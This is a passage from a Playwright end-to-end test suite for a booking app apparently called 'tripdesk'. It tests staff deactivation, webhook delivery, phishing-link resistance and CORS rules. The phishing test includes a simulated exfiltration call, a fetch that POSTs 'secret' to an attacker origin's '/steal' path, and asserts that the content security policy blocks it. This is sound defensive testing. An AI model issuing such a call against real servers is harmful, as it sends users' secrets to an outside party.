  await page.screenshot({ path: join(shots, "admin.png"), fullPage: true });

  // Ines holds a booking: deactivating her needs its cancellation too.
  const ines = page.locator("#staff-consultants li", { hasText: "Ines Invited" });
  await ines.locator("button.deactivate").click();
  await page.waitForSelector("#message.error:has-text('remain')");
  await ines.locator("input[type=checkbox]").check();
  await ines.locator("button.deactivate").click();
  await page.waitForSelector("#staff-consultants li.inactive:has-text('Ines Invited')");
  await page.waitForSelector("#staff-bookings li.booking .status:has-text('cancelled')");
  // Her session ended with it; the customer sees the cancellation.
  await invited.reload();
  await invited.waitForSelector("#auth:not([hidden])");
  await customer.reload();
  await customer.waitForSelector("#bookings li.booking .status:has-text('cancelled')");
  await page.locator("#staff-consultants li", { hasText: "Ines Invited" })
    .locator("button.reactivate").click();
  await page.waitForSelector("#staff-consultants li:not(.inactive):has-text('Ines Invited')");
  await Promise.all([context.close(), customerContext.close(), invitedContext.close()]);
});

test("staff subscribe a webhook, ping it and read its deliveries", async () => {
  const received = [];
  const receiver = await new Promise((done) => {
    const server = createServer((request, response) => {
      const chunks = [];
      request.on("data", (chunk) => chunks.push(chunk));
      request.on("end", () => {
        received.push({ type: request.headers["tripdesk-event-type"], body: Buffer.concat(chunks) });
        response.writeHead(request.headers["tripdesk-event-type"] === "ping" ? 204 : 500).end();
      });
    });
    server.listen(0, "127.0.0.1", () =>
      done({ server, url: `http://127.0.0.1:${server.address().port}/hooks/tripdesk` }));
  });
  const staffEmail = addStaff("a webhook admin's long secret");
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await logIn(page, staffEmail, "a webhook admin's long secret");
  await page.waitForSelector("#admin-section:not([hidden])");

  await page.fill("#webhook-form [name=url]", receiver.url);
  await page.fill("#webhook-form [name=description]", "CRM sync");
  await page.check("#webhook-events input[value='customer.registered']");
  await page.click("#webhook-form button[type=submit]");
  const row = page.locator("#webhooks li", { hasText: receiver.url });
  await row.waitFor();
  assert.match(await page.textContent("#webhook-secret"), /whsec_[0-9a-f]{64}/);
  assert.match(await row.locator(".meta").textContent(), /booking\.created.*customer\.registered · on · CRM sync/);

  await row.locator("button.ping").click();
  for (let i = 0; i < 100 && received.length === 0; i++) {
    await new Promise((done) => setTimeout(done, 100));
  }
  assert.equal(received[0]?.type, "ping");
  // The log shows the ping delivered (recorded just after the answer).
  for (let i = 0; ; i++) {
    await row.locator("button.deliveries").click();
    await page.waitForSelector("#deliveries:not([hidden])");
    const entries = await page.locator("#delivery-entries li").allTextContents();
    if (entries.some((line) => /^ping · succeeded · 1 try · HTTP 204/.test(line))) break;
    assert.ok(i < 50, entries.join("\n"));
    await new Promise((done) => setTimeout(done, 100));
  }
  await page.screenshot({ path: join(shots, "webhooks.png"), fullPage: true });

  await row.locator("button.switch").click();
  await page.waitForSelector(`#webhooks li.inactive:has-text('${receiver.url}')`);
  await page.locator("#webhooks li", { hasText: receiver.url }).locator("button.delete").click();
  await page.waitForFunction((url) =>
    ![...document.querySelectorAll("#webhooks li")].some((li) => li.textContent.includes(url)),
  receiver.url);
  receiver.server.close();
  await context.close();
});

test("a phishing link cannot point the genuine page at another server", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${tripdesk}/?api=${encodeURIComponent(attacker.origin)}`);
  await page.waitForSelector("#auth:not([hidden])");
  const email = uniqueEmail("phish");
  await register(page, email);
  await page.click("#logout");
  await page.waitForSelector("#auth:not([hidden])");
  await page.fill("#login-form [name=email]", email);
  await page.fill("#login-form [name=password]", "a long enough secret");
  await page.click("#login-form button[type=submit]");
  await page.waitForSelector("#whoami:not([hidden])");
  // Even script on the page could not reach it: connect-src 'self'.
  const fromScript = await page.evaluate(async (target) => {
    try {
      await fetch(`${target}/steal`, { method: "POST", body: "secret" });
      return "sent";
    } catch (_) {
      return "blocked";
    }
  }, attacker.origin);
  assert.equal(fromScript, "blocked");
  assert.deepEqual(attackerRequests, [], "nothing reached the other server");
  await context.close();
});

test("credentialed CORS from a listed origin, refused from any other", async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.goto(`${allowedSite.origin}/`);
  await page.waitForSelector("#auth:not([hidden])");
  await register(page, uniqueEmail("cors"));
  await page.waitForSelector("#consultants li");
  const fromAllowed = await page.evaluate(async (api) => {
    const response = await fetch(`${api}/api/users/me`, { credentials: "include" });
    return { status: response.status, body: await response.json() };
  }, tripdesk);
  assert.equal(fromAllowed.status, 200);
  assert.match(fromAllowed.body.user.email, /^cors-/);

  // The same page, the same browser and cookie, from an origin not listed.
  await page.goto(`${otherSite.origin}/`);
  await page.waitForSelector("#message.error");
  assert.equal(await page.isVisible("#whoami"), false);
  const fromOther = await page.evaluate(async (api) => {
    const attempts = {};
    for (const [name, init] of [
      ["read", { credentials: "include" }],
      ["write", {
        method: "POST", credentials: "include",
        headers: { "Content-Type": "application/json" }, body: "{}",
      }],
    ]) {
      try {
        const response = await fetch(`${api}/api/users/${name === "read" ? "me" : "logout"}`, init);
        attempts[name] = `answered ${response.status}`;
      } catch (error) {
        attempts[name] = "refused";
      }
    }
    return attempts;
  }, tripdesk);
  assert.deepEqual(fromOther, { read: "refused", write: "refused" });

  // The refused logout changed nothing: the session still works where allowed.
  await page.goto(`${allowedSite.origin}/`);
  await page.waitForSelector("#whoami:not([hidden])");
  await context.close();
});
